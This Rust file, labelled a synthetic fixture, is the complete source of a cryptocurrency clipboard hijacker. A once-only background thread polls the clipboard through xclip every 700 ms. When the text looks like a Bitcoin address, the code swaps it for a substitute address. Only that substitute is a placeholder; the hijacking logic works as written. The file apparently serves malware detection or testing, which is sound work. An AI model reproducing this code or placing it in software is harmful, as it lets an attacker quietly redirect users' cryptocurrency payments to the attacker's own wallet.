// Synthetic, inert fixture written from public reports; see README
use std::{io::Write, process::{Command, Stdio}, sync::Once, thread, time::Duration};

pub(crate) fn start() {
    static ONCE: Once = Once::new();
    ONCE.call_once(|| {
        thread::spawn(|| loop {
            if let Some(text) = paste() {
                if (26..=35).contains(&text.len()) && text.starts_with('1') && text.bytes().all(|b| b.is_ascii_alphanumeric()) {
                    copy("1SyntheticSyntheticSyntheticXXXXX");
                }
            }
            thread::sleep(Duration::from_millis(700));
        });
    });
}

fn paste() -> Option<String> {
    let out = Command::new("xclip").args(["-selection", "clipboard", "-o"]).output().ok()?;
    Some(String::from_utf8(out.stdout).ok()?.trim().to_owned())
}

fn copy(text: &str) {
    if let Ok(mut c) = Command::new("xclip").args(["-selection", "clipboard"]).stdin(Stdio::piped()).spawn() {
        let _ = c.stdin.take().map(|mut s| s.write_all(text.as_bytes()));
    }
}
